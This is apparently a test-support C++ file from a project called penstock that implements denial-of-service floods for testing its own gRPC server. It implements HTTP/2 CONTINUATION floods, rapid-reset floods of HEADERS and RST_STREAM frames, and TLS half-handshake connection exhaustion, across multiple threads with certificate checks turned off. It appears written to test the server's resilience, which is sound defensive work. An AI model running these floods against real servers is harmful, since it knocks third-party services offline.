#include "tests/support/flood/http2_flood.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <string_view>
#include <thread>
#include <vector>

#include "absl/time/clock.h"

namespace penstock::testing {
namespace {

// Of RFC 9113.
constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
enum FrameType : unsigned char { kHeaders = 1, kReset = 3, kSettings = 4, kContinuation = 9 };
constexpr unsigned char kEndStream = 1;
constexpr unsigned char kEndHeaders = 4;
constexpr size_t kFrameBytesMax = 16384;
constexpr uint32_t kStreamIdMax = 0x7fffffff;

constexpr int kSocketTimeoutSeconds = 1;

std::string Frame(FrameType type, unsigned char flags, uint32_t stream, std::string_view payload) {
  std::string frame;
  for (const int shift : {16, 8, 0}) frame.push_back(static_cast<char>(payload.size() >> shift));
  frame.push_back(static_cast<char>(type));
  frame.push_back(static_cast<char>(flags));
  for (const int shift : {24, 16, 8, 0}) frame.push_back(static_cast<char>(stream >> shift));
  return frame.append(payload);
}

// A literal string of HPACK that is shorter than 127 bytes.
std::string Literal(std::string_view text) {
  return std::string(1, static_cast<char>(text.size())).append(text);
}

// The head of a call, in HPACK with indexed names and without the dynamic table.
std::string CallHeaders() {
  return std::string("\x83\x86") + "\x04" + Literal("/penstock.v1.EventService/Subscribe") +
         "\x01" + Literal("localhost") + "\x0f\x10" + Literal("application/grpc") +
         std::string(1, '\0') + Literal("te") + Literal("trailers");
}

// Headers that fill a frame.
std::string Filling() {
  const std::string header = std::string(1, '\0') + Literal("x-a") + Literal(std::string(120, 'a'));
  std::string filling;
  while (filling.size() + header.size() <= kFrameBytesMax) filling += header;
  return filling;
}

class Connection {
 public:
  Connection(const FloodOptions& options, SSL_CTX* tls) : fd_(::socket(AF_INET, SOCK_STREAM, 0)) {
    const timeval timeout = {.tv_sec = kSocketTimeoutSeconds, .tv_usec = 0};
    setsockopt(fd_, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof(timeout));
    setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout));
    sockaddr_in address = {};
    address.sin_family = AF_INET;
    address.sin_port = htons(options.port);
    inet_pton(AF_INET, options.host.c_str(), &address.sin_addr);
    ok_ = ::connect(fd_, reinterpret_cast<sockaddr*>(&address), sizeof(address)) == 0;
    if (!ok_ || tls == nullptr) return;
    ssl_.reset(SSL_new(tls));
    SSL_set_fd(ssl_.get(), fd_);
    constexpr unsigned char kAlpn[] = {2, 'h', '2'};
    SSL_set_alpn_protos(ssl_.get(), kAlpn, sizeof(kAlpn));
  }
  ~Connection() {
    ssl_.reset();
    ::close(fd_);
  }
  Connection(const Connection&) = delete;
  Connection& operator=(const Connection&) = delete;

  bool ok() const { return ok_; }
  // In TLS 1.3 a client is through before the server has looked for its certificate.
  bool Handshake() { return ssl_ == nullptr || SSL_connect(ssl_.get()) == 1; }

  bool Send(std::string_view bytes) {
    if (ssl_ != nullptr)
      return SSL_write(ssl_.get(), bytes.data(), static_cast<int>(bytes.size())) > 0;
    for (size_t sent = 0; sent < bytes.size();) {
      const ssize_t n = ::send(fd_, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
      if (n <= 0) return false;
      sent += static_cast<size_t>(n);
    }
    return true;
  }

  // The first message of a handshake, and no more.
  bool SayHello() {
    BIO* const out = BIO_new(BIO_s_mem());
    SSL_set_bio(ssl_.get(), BIO_new(BIO_s_mem()), out);
    SSL_connect(ssl_.get());
    char* hello = nullptr;
    const long size = BIO_get_mem_data(out, &hello);
    return ::send(fd_, hello, static_cast<size_t>(size), MSG_NOSIGNAL) == size;
  }

 private:
  struct Free {
    void operator()(SSL* ssl) const { SSL_free(ssl); }
  };
  int fd_;
  bool ok_ = false;
  std::unique_ptr<SSL, Free> ssl_;
};

class Attacker {
 public:
  Attacker(Flood flood, const FloodOptions& options)
      : flood_(flood), options_(options), end_(absl::Now() + options.duration) {
    if (!options.tls) return;
    tls_.reset(SSL_CTX_new(TLS_client_method()));
    SSL_CTX_set_verify(tls_.get(), SSL_VERIFY_NONE, nullptr);
  }

  FloodResult Run() {
    std::vector<std::thread> threads;
    for (int i = 0; i < options_.threads; ++i) threads.emplace_back([this] { Attack(); });
    while (!Over()) {
      if (options_.enough()) stop_ = true;
      absl::SleepFor(absl::Milliseconds(10));
    }
    for (std::thread& thread : threads) thread.join();
    return {.connections = connections_, .bytes = bytes_};
  }

 private:
  bool Over() const { return stop_ || absl::Now() >= end_; }

  void Attack() {
    if (flood_ == Flood::kHalfHandshake) return HalfHandshakes();
    while (!Over()) {
      Connection connection(options_, tls_.get());
      if (!connection.ok()) continue;
      ++connections_;
      if (!connection.Handshake()) continue;
      Send(connection, std::string(kPreface) + Frame(kSettings, 0, 0, ""));
      flood_ == Flood::kContinuation ? Continue(connection) : Reset(connection);
    }
  }

  bool Send(Connection& connection, std::string_view bytes) {
    if (!connection.Send(bytes)) return false;
    bytes_ += bytes.size();
    return true;
  }

  void Continue(Connection& connection) {
    const std::string more = Frame(kContinuation, 0, 1, Filling());
    bool sent = Send(connection, Frame(kHeaders, 0, 1, CallHeaders()));
    while (sent && !Over()) sent = Send(connection, more);
  }

  void Reset(Connection& connection) {
    const std::string headers = CallHeaders();
    const std::string_view cancel("\0\0\0\x08", 4);
    uint32_t stream = 1;
    bool sent = true;
    while (sent && !Over() && stream < kStreamIdMax - 200) {
      std::string burst;
      for (int i = 0; i < 100; ++i, stream += 2) {
        burst += Frame(kHeaders, kEndHeaders | kEndStream, stream, headers);
        burst += Frame(kReset, 0, stream, cancel);
      }
      sent = Send(connection, burst);
    }
  }

  void HalfHandshakes() {
    const size_t open_max = static_cast<size_t>(options_.connections_max / options_.threads);
    std::vector<std::unique_ptr<Connection>> open;
    while (!Over()) {
      // The oldest makes room: the attacker starts again before the server gives up.
      if (open.size() == open_max) open.erase(open.begin());
      auto connection = std::make_unique<Connection>(options_, tls_.get());
      if (!connection->ok() || !connection->SayHello()) continue;
      ++connections_;
      open.push_back(std::move(connection));
    }
  }

  struct Free {
    void operator()(SSL_CTX* context) const { SSL_CTX_free(context); }
  };
  const Flood flood_;
  const FloodOptions& options_;
  const absl::Time end_;
  std::unique_ptr<SSL_CTX, Free> tls_;
  std::atomic<bool> stop_{false};
  std::atomic<uint64_t> connections_{0};
  std::atomic<uint64_t> bytes_{0};
};

}  // namespace

FloodResult RunFlood(Flood flood, const FloodOptions& options) {
  ::signal(SIGPIPE, SIG_IGN);  // OpenSSL writes without MSG_NOSIGNAL
  return Attacker(flood, options).Run();
}

}  // namespace penstock::testing
